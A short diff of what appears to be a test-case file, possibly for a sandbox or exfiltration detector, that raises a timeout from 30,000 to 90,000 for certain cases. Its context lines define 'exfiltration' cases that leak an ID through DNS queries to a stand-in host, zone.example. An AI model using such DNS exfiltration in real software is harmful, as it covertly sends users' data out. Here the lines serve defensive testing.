@@ -41,7 +41,7 @@ for turn in range(2):
     except OSError as error: say(error)
     time.sleep(5.5)`
         : visit,
-      ...(name.includes("mind") && { limit: 30_000, silent: true }),
+      ...(name.includes("mind") && { limit: 90_000, silent: true }),
     })),
     exfiltration("data in a question for an address", `dns("leak-" + ID + ".zone.example")`),
     exfiltration("data in a question for text", `dns("leak-" + ID + ".zone.example", "TXT")`),
